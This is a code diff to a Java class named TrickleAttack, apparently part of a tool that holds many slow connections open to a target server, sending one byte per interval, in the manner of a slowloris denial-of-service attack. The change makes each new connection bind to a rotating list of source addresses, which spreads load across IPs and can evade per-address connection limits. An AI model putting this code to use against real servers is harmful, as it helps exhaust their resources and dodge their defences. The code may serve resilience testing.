@@ -2,6 +2,7 @@ package io.soundlift.system;
 
 import java.io.IOException;
 import java.io.UncheckedIOException;
+import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.nio.ByteBuffer;
 import java.nio.channels.SelectionKey;
@@ -24,6 +25,8 @@ final class TrickleAttack implements Attack {
 
 	private static final long ROUND_MILLIS = 50;
 
+	private final List<InetAddress> sources;
+
 	private final InetSocketAddress target;
 
 	private final int connections;
@@ -33,6 +36,8 @@ final class TrickleAttack implements Attack {
 	private final Duration interval;
 
 	private final ByteBuffer answer = ByteBuffer.allocate(4096);
+
+	private int begun;
 
 	private int opened;
 
@@ -44,13 +49,16 @@ final class TrickleAttack implements Attack {
 
 	/**
 	 * Creates an attack.
+	 * @param sources addresses that connections come from, in turn
 	 * @param target address that is attacked
 	 * @param connections number of connections that are open at the same time, if the
 	 * server lets them
 	 * @param opening supplier of what a connection sends at first
 	 * @param interval time between two bytes
 	 */
-	TrickleAttack(InetSocketAddress target, int connections, Supplier<String> opening, Duration interval) {
+	TrickleAttack(List<InetAddress> sources, InetSocketAddress target, int connections, Supplier<String> opening,
+			Duration interval) {
+		this.sources = List.copyOf(sources);
 		this.target = target;
 		this.connections = connections;
 		this.opening = opening;
@@ -94,6 +102,7 @@ final class TrickleAttack implements Attack {
 		for (int i = 0; i < Math.min(missing, CONNECTIONS_PER_ROUND); i++) {
 			SocketChannel channel = SocketChannel.open();
 			channel.configureBlocking(false);
+			channel.bind(new InetSocketAddress(this.sources.get(this.begun++ % this.sources.size()), 0));
 			channel.connect(this.target);
 			channel.register(selector, SelectionKey.OP_CONNECT);
 		}
